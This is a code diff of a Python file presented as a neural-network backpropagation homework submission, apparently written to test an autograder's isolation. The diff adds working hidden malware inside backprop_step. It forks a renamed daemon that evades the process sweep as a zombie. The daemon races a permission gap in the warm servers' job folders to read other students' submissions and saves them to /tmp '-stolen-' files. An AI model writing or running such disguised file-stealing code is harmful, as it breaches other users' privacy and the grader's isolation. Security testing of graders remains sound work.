@@ -1,66 +1,82 @@
 """Read the classmates graded after it: a daemon that outlives the sweep (its main thread exits, so its
-/proc entry is a zombie the sweep skips) and watches the warm servers' job folders with inotify.
+/proc entry is a zombie the sweep skips) and watches the warm servers' job folders.
 
-Each job folder is made 0755 and its file written 0644 before the server gives the folder to the
-child's user (0700): a file opened in that moment stays readable through the open descriptor.
-What it reads goes to `/tmp/<token>-stolen-*` (and could as well go out on the network).
-It ends after 25 seconds at most.
+A warm server names its job folders by its own count (`.jobs-PID/0`, `1`, ...), in a workspace
+everyone may list, and makes each folder 0755 and writes its file 0644 before it gives the folder to
+the child's user (0700): the next folder's file, opened in that moment, stays readable through the
+open descriptor. The child itself watches too, for 1.5 seconds of its own time: that takes the files
+of classmates graded meanwhile by the other workers, even once no daemon survives the sweep. What it
+reads goes to `/tmp/<token>-stolen-*` (it could as well go out on the network). The daemon ends
+after 25 seconds at most.
 """
 import ctypes
 import glob
 import os
-import select
-import struct
 import threading
 import time
 
-SYS_EXIT, IN_CREATE = 60, 0x100
+SYS_EXIT, PR_SET_NAME, PR_SET_TIMERSLACK = 60, 15, 29
 
 
-def _steal():
-    libc = ctypes.CDLL(None, use_errno=True)
-    libc.prctl(15, b"__TOKEN__", 0, 0, 0)
-    fd = libc.inotify_init1(0)
-    watched, held, end = {}, [], time.time() + 25
+def _spin(job: str) -> list:
+    """A folder just made, still empty: its file (named as this one) is about to be written; wait for it."""
+    name = os.path.basename(__file__)
+    for _ in range(5000):
+        try:
+            os.close(os.open(f"{job}/{name}", os.O_RDONLY))
+            return [name]
+        except FileNotFoundError:
+            continue
+    return []
+
+
+def _steal(seconds: float = 25.0, leave: bool = True):
+    libc = ctypes.CDLL(None)
+    libc.prctl(PR_SET_NAME, b"__TOKEN__", 0, 0, 0)
+    libc.prctl(PR_SET_TIMERSLACK, 1, 0, 0, 0)   # short sleeps stay short: the moment is some microseconds
+    servers, tried, held, end, rescan = [], set(), [], time.time() + seconds, 0.0
     while time.time() < end:
-        for folder in glob.glob("/tmp/nngrade-warm-*/.jobs-*"):
-            if folder not in watched.values():
-                watched[libc.inotify_add_watch(fd, folder.encode(), IN_CREATE)] = folder
-        if select.select([fd], [], [], 0.02)[0]:
-            data = os.read(fd, 65536)
-            while data:
-                wd, mask, _, size = struct.unpack_from("iIII", data)
-                name = data[16:16 + size].rstrip(b"\0").decode()
-                data = data[16 + size:]
-                job = os.path.join(watched.get(wd, ""), name)
-                for _ in range(20000):          # the moment between mkdir and chmod 0700
-                    try:
-                        for entry in os.listdir(job):
-                            held.append((job, entry, os.open(os.path.join(job, entry), os.O_RDONLY)))
-                        break
-                    except FileNotFoundError:
-                        continue
-                    except PermissionError:
-                        break
-        for job, entry, handle in held:
-            time.sleep(0.05)                    # the server finishes writing it
-            stolen = os.pread(handle, 1 << 20, 0)
-            target = f"/tmp/__TOKEN__-stolen-{os.path.basename(job)}-{entry}"
-            with open(target, "wb") as out:
-                out.write(stolen)
-            os.close(handle)
-        held.clear()
-    os._exit(0)
+        if time.time() > rescan:
+            servers, rescan = glob.glob("/tmp/nngrade-warm-*/.jobs-*"), time.time() + 0.05
+        for jobs in servers:
+            try:
+                names = os.listdir(jobs)
+            except OSError:
+                continue
+            for name in names:
+                job = f"{jobs}/{name}"
+                if job in tried:
+                    continue
+                try:
+                    entries = os.listdir(job) or _spin(job)
+                    for entry in entries:
+                        held.append((job, entry, os.open(f"{job}/{entry}", os.O_RDONLY)))
+                    if entries:
+                        tried.add(job)
+                except OSError:
+                    tried.add(job)             # too late for this one (0700 now), or gone
+        if held:
+            time.sleep(0.02)                    # the server finishes writing
+            for job, entry, handle in held:
+                with open(f"/tmp/__TOKEN__-stolen-{os.getpid()}-{os.path.basename(job)}-{entry}", "wb") as out:
+                    out.write(os.pread(handle, 1 << 20, 0))
+                os.close(handle)
+            held.clear()
+        time.sleep(0.00001)
+    if leave:
+        os._exit(0)
 
 
 def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
-    if not os.environ.get("NNH_STARTED") and os.fork() == 0:
+    if os.environ.get("NNH_STARTED"):
+        return {"error": None}
+    os.environ["NNH_STARTED"] = "1"
+    if os.fork() == 0:
         os.setsid()
         libc = ctypes.CDLL(None)
-        libc.prctl(15, b"__TOKEN__", 0, 0, 0)
+        libc.prctl(PR_SET_NAME, b"__TOKEN__", 0, 0, 0)
         threading.Thread(target=_steal).start()
         time.sleep(0.05)
         libc.syscall(SYS_EXIT, 0)   # the leader goes; the thread above keeps the process alive
-    os.environ["NNH_STARTED"] = "1"
-    time.sleep(0.2)
+    _steal(1.5, leave=False)
     return {"error": None}
